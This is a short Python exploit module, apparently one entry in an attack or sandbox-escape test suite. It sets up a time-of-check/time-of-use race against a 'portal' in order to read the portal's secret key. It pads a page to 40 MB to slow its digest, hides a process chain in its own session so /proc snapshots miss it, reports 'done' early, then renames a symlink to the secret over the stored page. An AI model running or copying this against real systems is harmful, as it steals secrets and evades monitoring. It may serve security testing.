"""Reports that it is done; the last process of a chain then renames a link over the page while the page is stored.

The sequence that read the portal's secret key: a page of 40 MB, so that its digest takes time; a chain of processes
in a session of its own, which no snapshot of /proc shows; `done` to the inherited socket, so that the host ends what it
sees and tells the worker; and a link in place of the page, after it was opened and before it is moved.

gains: any file that the portal's user can read, as a result
needs: chain
limits: timeout_s=6
repeat: 100
ends: any
"""

os.symlink(V["secret"], "link")
forge(b"<p>mine</p>" + b"x" * 40_000_000)
chain(60 + 6 * ROUND, "/bin/mv", "-T", "link", "../result.html")
tell(b"done")
time.sleep(0.3)
